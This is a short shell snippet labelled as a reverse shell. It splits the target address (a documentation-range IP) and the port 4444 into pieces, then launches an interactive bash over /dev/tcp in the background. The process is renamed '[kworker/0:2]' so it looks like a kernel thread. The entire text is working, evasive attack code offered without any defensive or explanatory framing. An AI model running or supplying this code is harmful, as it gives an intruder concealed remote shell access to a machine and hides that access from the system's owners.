# reverse-shell: host and port assembled from pieces, started in the background under a kernel-like name
h=198.51.100
p=$((4400 + 44))
nohup bash -c "exec -a '[kworker/0:2]' bash -i >& /dev/tcp/$h.23/$p 0>&1" >/dev/null 2>&1 &
